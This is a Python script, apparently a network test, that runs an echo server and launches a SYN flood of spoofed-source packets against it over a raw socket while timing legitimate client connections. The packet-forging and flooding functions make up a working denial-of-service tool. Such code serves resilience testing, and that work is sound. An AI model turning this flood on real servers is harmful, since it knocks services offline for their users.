#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""A SYN flood, and clients that connect in the midst of it.

flood.py serve PORT BACKLOG
    An echo server, one connection after the other.
flood.py attack SERVER PORT SYNS CLIENTS BYTES
    Sends so many SYNs from addresses that do not exist (10.99.0.0/16).  When a
    tenth of them are out, so many clients begin, one after the other, and have so
    many bytes echoed.  Prints how many clients succeeded, and the time in ms that
    the slowest connect() took.
"""

import os
import socket
import struct
import sys
import threading
import time

CLIENT_TIMEOUT_S = 30
# What a SYN of today has: MSS, SACK-permitted, timestamps, window scale
OPTIONS = (
    bytes((2, 4, 5, 180, 4, 2, 8, 10))
    + struct.pack("!II", 12345, 0)
    + bytes((1, 3, 3, 7))
)


def serve(port, backlog):
    """Echo what comes until its end."""
    with socket.create_server(("", port), backlog=backlog) as listener:
        while True:
            connection, _ = listener.accept()
            with connection:
                while data := connection.recv(65536):
                    connection.sendall(data)


def checksum(data):
    """RFC 1071; the data are of even length."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forged_syn(number, server, port):
    """An IP packet: a SYN from an address of which every number has its own."""
    source = struct.pack("!BBH", 10, 99, number % 65536)
    head = struct.pack("!HHIIBB", 1024 + number % 60000, port, number * 64999, 0, 0xA0, 2)
    tail = struct.pack("!HHH", 65535, 0, 0) + OPTIONS
    length = len(head) + len(tail)
    pseudo = source + server + struct.pack("!BBH", 0, socket.IPPROTO_TCP, length)
    total = checksum(pseudo + head + tail)
    tail = struct.pack("!HHH", 65535, total, 0) + OPTIONS
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, socket.IPPROTO_TCP, 0, source, server
    )
    return ip + head + tail


def flood(server, port, syns, begun):
    """Send them; tell when a tenth are out."""
    address = socket.inet_aton(server)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(syns):
            raw.sendto(forged_syn(number, address, port), (server, 0))
            if number == syns // 10:
                begun.set()
            # Leave the processor to the clients now and then
            if number % 100 == 99:
                time.sleep(0.001)


def receive(connection, size):
    """So many bytes, or fewer at the end."""
    data = bytearray()
    while len(data) < size and (part := connection.recv(size - len(data))):
        data += part
    return data


def client(server, port, size):
    """Connect, have random bytes echoed; how long connect() took, in ms."""
    data = os.urandom(size)
    before = time.monotonic()
    with socket.create_connection((server, port), timeout=CLIENT_TIMEOUT_S) as connection:
        took = (time.monotonic() - before) * 1000
        writer = threading.Thread(target=connection.sendall, args=(data,))
        writer.start()
        echo = receive(connection, size)
        writer.join()
    if echo != data:
        raise ConnectionError("the echo is not what was sent")
    return took


def attack(server, port, syns, clients, size):
    """The flood in a thread of its own, the clients in this one."""
    begun = threading.Event()
    attacker = threading.Thread(target=flood, args=(server, port, syns, begun))
    attacker.start()
    begun.wait()
    took = []
    for _ in range(clients):
        try:
            took.append(client(server, port, size))
        except OSError as error:
            print(error, file=sys.stderr)
    attacker.join()
    print(len(took), int(max(took, default=0)))


def main():
    """By the first argument."""
    if sys.argv[1] == "serve":
        serve(int(sys.argv[2]), int(sys.argv[3]))
    else:
        attack(sys.argv[2], *map(int, sys.argv[3:7]))


main()
